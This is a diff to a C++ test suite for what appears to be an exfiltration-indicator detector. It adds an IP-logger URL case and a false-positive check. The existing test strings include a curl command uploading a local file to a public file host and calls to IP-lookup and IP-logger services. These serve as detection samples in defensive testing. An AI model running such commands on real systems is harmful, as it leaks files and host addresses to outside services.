@@ -65,6 +65,8 @@ TEST(IndicatorsTest, ExfiltrationChannels) {
   ExpectIndicator("curl --upload-file ./a https://transfer.sh/a", "indicator-filehost");
   ExpectIndicator("ip = get('https://api.ipify.org').text", "indicator-ip-lookup");
   ExpectIndicator("urlopen('https://iplogger.org/2Abc')", "indicator-ip-logger");
+  ExpectIndicator("get('https://iplogger.com')", "indicator-ip-logger");
+  ExpectNoIndicator("iplogger.info('address %s', ip)");
 }
 
 TEST(IndicatorsTest, IpLiteralUrls) {
